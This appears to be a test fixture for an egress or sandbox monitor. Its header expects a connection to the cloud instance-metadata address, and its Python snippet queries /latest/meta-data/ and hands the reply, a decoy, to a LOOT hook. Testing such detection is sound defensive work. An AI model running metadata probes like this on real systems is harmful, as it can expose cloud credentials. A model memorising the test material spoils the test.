#: {"class": "egress", "loader": "script", "expect": [["connect", "169\\.254\\.169\\.254:80"]], "effect": {"loot": "DECOY-reply"}}
import socket
s = socket.create_connection(("@IMDS@", 80)); s.sendall(b"GET /latest/meta-data/ HTTP/1.0\r\n\r\n"); LOOT(s.recv(999))
